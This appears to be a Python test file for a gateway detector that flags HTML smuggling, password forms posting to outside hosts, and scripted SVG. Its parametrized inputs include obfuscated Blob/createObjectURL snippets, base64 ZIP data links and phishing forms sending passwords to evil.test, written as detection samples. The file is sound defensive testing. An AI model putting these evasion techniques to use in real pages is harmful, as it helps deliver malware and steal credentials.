"""HTML and SVG that hand over a file, ask for a password, or only hold a script; and pages that do nothing of it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.checks.smuggling import HTML_LOGIN_FORM, HTML_SCRIPT, HTML_SMUGGLING, active_content
from gateway.checks.tags import attributes, tags_of

DOMAINS = ("city.example", "*.city.example")
GROWN = "s+='UEsDBAAA';"
BULK = "UEsDB" * 200


def facts(html: str) -> set[str]:
    """Codes of a document."""
    data = html.encode()
    return {fact.code for fact in active_content(data, tags_of(data), DOMAINS)}


@pytest.mark.parametrize(
    "html",
    [
        "<script>var b=new Blob([atob('AA')]);a.href=URL.createObjectURL(b)</script>",
        "<SCRIPT>navigator.msSaveOrOpenBlob(new Blob([new Uint8Array(x)]),'a.zip')</SCRIPT>",
        "<script>window['URL']['creat'+\"eObj\"+'ectURL'](new window['Bl'+'ob']([y])); atob(x)</script>",
        "<script>self['\\x63reateObjectURL'](new Blob([q])); Uint8Array.from(z)</script>",
        "<script>self['\\u0063reateObjectURL'](new Blob([q])); self['\\u{61}tob'](z)</script>",
        "<body onload=\"eval(unescape('%63%72%65%61%74%65ObjectURL(new%20Blob([atob(x)]))'))\">",
        f"<script>var d='{BULK}';document.write(atob(d))</script>",
        f"<script>var d=[{','.join(['80'] * 300)}];a.download='x.zip';a.click();new Uint8Array(d)</script>",
        "<script>var a='crea';var b='teObj';URL[a+b+'ectURL'](new Blob([atob(x)]))</script>",
        "<script>URL[['c','r','e','a','t','e','O','b','j','e','c','t','U','R','L'].join('')](w[a.join``],atob(z))</script>",
        "<script>URL['LRUtcejbOetaerc'.split('').reverse().join('')](new Blob([atob(x)]))</script>",
        "<script>var n=String.fromCharCode(99,114,101,97,116,101,79,98,106,101,99,116,85,82,76);URL[n](w)</script>",
        "<script>var _0=['ob','at','ObjectURL','create'];URL[_0[3]+_0[2]](window[_0[1]+_0[0]](x))</script>",
        "<script>a=/['`]/;b='it\\'s';URL['cre'.concat('ate')+\"ObjectURL\"](w[/[']/],atob(x))</script>",
        "<script>URL[atob('Y3JlYXRlT2Jq'+'ZWN0VVJM')](x)</script>",
        "<script>var s='';s+='create';s+='Object';s+='URL';URL[s](atob(x))</script>",
        f"<script>var s='';{GROWN * 100}document.write(atob(s))</script>",
        "<img src=x onerror=\"location='data:text/html,'+atob('AA');new File([atob('AA')],'x')\">",
        '<a download="x.zip" href="data:application/zip;base64,UEsDBA==">x</a>',
        '<a href="data:application/octet-stream;base64,UEsDBA==">x</a>',
        '<a download href="&#100;ata:application/zip,PK">x</a>',
        f'<a href="data:application/zip;base64,{BULK * 50}" download=x.zip>x</a>',
        '<embed src="data:application/pdf;base64,AA">',
        '<object data="data:image/svg+xml;base64,AA"></object>'.replace("image/svg+xml", "application/x-dosexec"),
        '<iframe src="data:text/html;base64,AA"></iframe>',
        "<svg xmlns='http://www.w3.org/2000/svg'><script>go()</script></svg>",
        "<?xml version='1.0'?><!-- x --><svg onload='go()'></svg>",
        "<svg><a xlink:href='javascript:go()'><text>x</text></a></svg>",
        "<!DOCTYPE svg [ <!ENTITY a 'b'> ]><!-- <html> --><s:svg xmlns:s='x'><s:script>go()</s:script></s:svg>",
    ],
    ids=[
        *("blob", "save", "joined", "hex", "unicode", "percent", "write", "numbers", "names", "array", "reversed"),
        *("codes", "elements", "quotes", "base64", "grown", "grown-file", "file", "download", "link"),
        *("reference", "long", "embed", "object", "iframe", "svg", "handler", "svg-link", "svg-entity"),
    ],
)
def test_files_that_a_page_makes(html: str) -> None:
    """By scripts, however their words are broken up; by data in links and objects; by drawings that run."""
    assert HTML_SMUGGLING in facts(html)


@pytest.mark.parametrize(
    ("html", "script"),
    [
        ("<p>Hello</p><a href='https://city.example/'>x</a>", False),
        ("<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", False),
        ("<img src='data:image/png;base64,AA'><a href='data:image/png;base64,AA'>x</a>", False),
        ("<p>createObjectURL(new Blob([atob(x)])) is how a script makes a file</p>", False),
        ("<script>dataLayer.push(1);document.write('<p>')</script>", True),
        (f"<script>track('x')</script><img src='data:image/png;base64,{BULK}'>", True),
        ("<script>x=encodeURIComponent(location.href);document.body.appendChild(i)</script>", True),
        ("<video><source src='data:video/mp4;base64,AA'></video>", False),
        ("<div style=\"background:url('data:image/gif;base64,AA')\">x</div>", False),
    ],
    ids=["page", "svg", "pictures", "words", "script", "picture", "counter", "video", "style"],
)
def test_ordinary_pages(html: str, script: bool) -> None:
    """Pictures within a page, words about scripts, and scripts that make no file."""
    assert facts(html) == ({HTML_SCRIPT} if script else set())


@pytest.mark.parametrize(
    ("html", "asks"),
    [
        ("<form action=https://evil.test/x method=post><input type=password></form>", True),
        ("<FORM ACTION='HTTPS://EVIL.TEST'><INPUT NAME=p TYPE='PassWord'></FORM>", True),
        ("<form><input type=password><input type=submit formaction=//evil.test/x></form>", True),
        ("<input type='password'><script>$.ajax({url:u})</script>", True),
        ("<input type='password'><script>new XMLHttpRequest()</script>", True),
        ("<form action=https://portal.city.example/in><input type=password></form>", False),
        ("<form action=/in><input type=password></form>", False),
        ("<form action=https://survey.test/><input type=text></form>", False),
        ("<p>type=password</p><form action=https://survey.test/>", False),
    ],
    ids=["form", "capitals", "button", "ajax", "request", "own", "relative", "survey", "words"],
)
def test_pages_that_ask_for_a_password(html: str, asks: bool) -> None:
    """A field for a password whose value leaves for a stranger, by a form or by a script."""
    assert (HTML_LOGIN_FORM in facts(html)) is asks


def test_attributes_are_read_as_browsers_do() -> None:
    """Quotes of both kinds, none, references; the first of a name counts."""
    data = b"<form ACTION=\"a&amp;b\" x='1' y=2 checked action=late>"
    (tag,) = tags_of(data).found
    assert attributes(data, tag) == {"action": "a&b", "x": "1", "y": "2", "checked": ""}


def test_time_is_linear() -> None:
    """Nothing that is repeated costs more than its octets."""
    runs = (b"A" * 599 + b" ", b"1," * 199 + b";", b"1" + b" " * 99, b"1,", b"A", b"'+'", b"\\x41", b"<!--")
    for piece in (b"<svg", b"<svg ", b"<script>", b"<a href=data:", b"<input type='", *runs):
        data = b"<p><script>atob(x).click() <input " + piece * (200_000 // len(piece))
        started = time.process_time()
        list(active_content(data, tags_of(data), DOMAINS))
        assert time.process_time() - started < 2, piece


@given(st.text(max_size=300))
def test_anything_is_survived(text: str) -> None:
    """No document raises."""
    facts(f"<svg {text}><script>{text}<a href={text}>")
